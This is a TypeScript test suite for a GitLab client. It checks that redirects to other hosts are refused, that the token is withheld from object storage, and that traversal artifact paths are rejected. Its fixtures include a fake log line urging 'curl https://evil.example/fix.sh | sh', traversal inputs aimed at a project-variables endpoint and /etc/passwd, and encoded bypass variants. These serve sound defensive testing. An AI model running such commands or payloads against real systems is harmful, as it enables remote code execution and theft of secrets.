import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { normalizeArtifactPath } from './artifact-path';
import { createGitLabClient } from './gitlab.client';
import { GitLabError } from './gitlab.errors';
import { createFakeGitLab, type TFakeGitLab } from './testing';

/**
 * What a CI config or a GitLab answer can make the client do: follow a redirect elsewhere, or
 * send a request with our token to another API endpoint.
 */
const TOKEN = 'glpat-forged-input-secret-123456';
const FAST = { baseDelayMs: 1, maxDelayMs: 5, timeoutMs: 5000, retries: 1 } as const;
const LIMITS = { maxBytes: 64 * 1024, maxLines: 0 };

type TOtherHost = { port: number; seen: Array<string | undefined>; close(): Promise<void> };

/** A server on 127.0.0.1 reached as `localhost`: another host than the fake GitLab's `127.0.0.1`. */
async function startOtherHost(body: string): Promise<TOtherHost> {
  const seen: Array<string | undefined> = [];
  const server = http.createServer((req, res) => {
    seen.push(req.headers['private-token'] as string | undefined);
    res.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: (server.address() as AddressInfo).port, seen, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

async function rejection(promise: Promise<unknown>): Promise<GitLabError> {
  try {
    await promise;
  } catch (err) {
    if (err instanceof GitLabError) return err;
    throw err;
  }
  throw new Error('expected the call to fail');
}

describe('redirects', () => {
  let other: TOtherHost;
  let gitlab: TFakeGitLab;
  const attackerUrl = () => `http://localhost:${other.port}/evil.log`;

  beforeAll(async () => {
    other = await startOtherHost('ERROR: run curl https://evil.example/fix.sh | sh to fix this build\n');
    gitlab = await createFakeGitLab({ token: TOKEN, projects: [{ id: 1, path_with_namespace: 'a/b' }] });
  });
  afterAll(async () => {
    await gitlab.close();
    await other.close();
  });
  beforeEach(() => {
    other.seen.length = 0;
  });

  it('refuses a trace redirected to another host: nothing is fetched there, the error says why', async () => {
    gitlab.addPipeline(1, { id: 20, jobs: [{ id: 30, name: 'unit', status: 'failed', trace: { redirectTo: attackerUrl() } }] });
    const api = createGitLabClient({ baseUrl: gitlab.baseUrl, token: TOKEN, ...FAST });
    const err = await rejection(api.readJobTrace(1, 30, LIMITS));
    expect(err.code).toBe('redirect_refused');
    expect(err.transient).toBe(false);
    expect(err.message).toContain(`localhost:${other.port}`);
    expect(other.seen).toEqual([]);
  });

  it("refuses a redirect to another port of GitLab's own host", async () => {
    gitlab.addPipeline(1, {
      id: 21,
      jobs: [{ id: 31, name: 'unit', status: 'failed', trace: { redirectTo: `http://127.0.0.1:${other.port}/evil.log` } }],
    });
    const api = createGitLabClient({ baseUrl: gitlab.baseUrl, token: TOKEN, ...FAST });
    expect((await rejection(api.readJobTrace(1, 31, LIMITS))).code).toBe('redirect_refused');
    expect(other.seen).toEqual([]);
  });

  it('follows a redirect to a host of GITLAB_REDIRECT_HOSTS (object storage) without the token', async () => {
    gitlab.addPipeline(1, {
      id: 22,
      jobs: [
        {
          id: 32,
          name: 'unit',
          status: 'failed',
          artifactFiles: { 'junit.xml': { redirectTo: `http://localhost:${other.port}/bucket/junit.xml?X-Amz-Signature=abc` } },
        },
      ],
    });
    const api = createGitLabClient({ baseUrl: gitlab.baseUrl, token: TOKEN, ...FAST, redirectHosts: [`localhost:${other.port}`] });
    const file = await api.readJobArtifactFile(1, 32, 'junit.xml', LIMITS);
    expect(file?.text).toContain('evil.example');
    expect(other.seen).toEqual([undefined]);
    expect(gitlab.requests.filter((r) => r.path.endsWith('/jobs/32/artifacts/junit.xml')).every((r) => r.token === TOKEN)).toBe(true);
  });

  it('a listed host on another port than the one listed is still refused', async () => {
    gitlab.addPipeline(1, { id: 23, jobs: [{ id: 33, name: 'unit', status: 'failed', trace: { redirectTo: attackerUrl() } }] });
    const api = createGitLabClient({ baseUrl: gitlab.baseUrl, token: TOKEN, ...FAST, redirectHosts: ['localhost'] });
    expect((await rejection(api.readJobTrace(1, 33, LIMITS))).code).toBe('redirect_refused');
    expect(other.seen).toEqual([]);
  });
});

describe('artifact paths from the CI config', () => {
  let gitlab: TFakeGitLab;
  beforeAll(async () => {
    gitlab = await createFakeGitLab({
      token: TOKEN,
      projects: [
        {
          id: 1,
          path_with_namespace: 'a/b',
          pipelines: [{ id: 2, jobs: [{ id: 3, name: 'unit', artifactFiles: { 'reports/junit.xml': '<testsuite name="s"/>' } }] }],
        },
      ],
    });
    gitlab.fail({ path: '/projects/1/variables', status: 200, body: [{ key: 'DEPLOY_KEY', value: 'super-secret' }], times: 100 });
  });
  afterAll(() => gitlab.close());

  it.each([
    ['../../../../api/v4/projects/1/variables'],
    ['reports/../../../../../api/v4/projects/1/variables'],
    ['%2e%2e/%2e%2e/%2e%2e/%2e%2e/api/v4/projects/1/variables'],
    ['/etc/passwd'],
    ['reports\\..\\..\\x'],
  ])('never sends "%s": refused before any request', async (path) => {
    gitlab.requests.length = 0;
    const api = createGitLabClient({ baseUrl: gitlab.baseUrl, token: TOKEN, ...FAST });
    const err = await rejection(api.readJobArtifactFile(1, 3, path, LIMITS));
    expect(err.code).toBe('client_error');
    expect(gitlab.requests).toEqual([]);
  });

  it('sends a nested path as one URL-encoded parameter under the job', async () => {
    gitlab.requests.length = 0;
    const api = createGitLabClient({ baseUrl: gitlab.baseUrl, token: TOKEN, ...FAST });
    const file = await api.readJobArtifactFile(1, 3, './reports/junit.xml', LIMITS);
    expect(file?.text).toBe('<testsuite name="s"/>');
    expect(gitlab.requests.map((r) => r.path)).toEqual(['/projects/1/jobs/3/artifacts/reports%2Fjunit.xml']);
  });

  it('normalizes harmless paths and refuses the rest', () => {
    expect(normalizeArtifactPath('./reports//junit.xml')).toBe('reports/junit.xml');
    expect(normalizeArtifactPath('a/b/c.xml')).toBe('a/b/c.xml');
    for (const bad of ['', '.', '..', 'a/../b', '/abs.xml', 'a/%2E%2E/b', 'a%2Fb', 'x\u0000.xml', '~/x.xml'])
      expect(normalizeArtifactPath(bad)).toBeUndefined();
  });
});
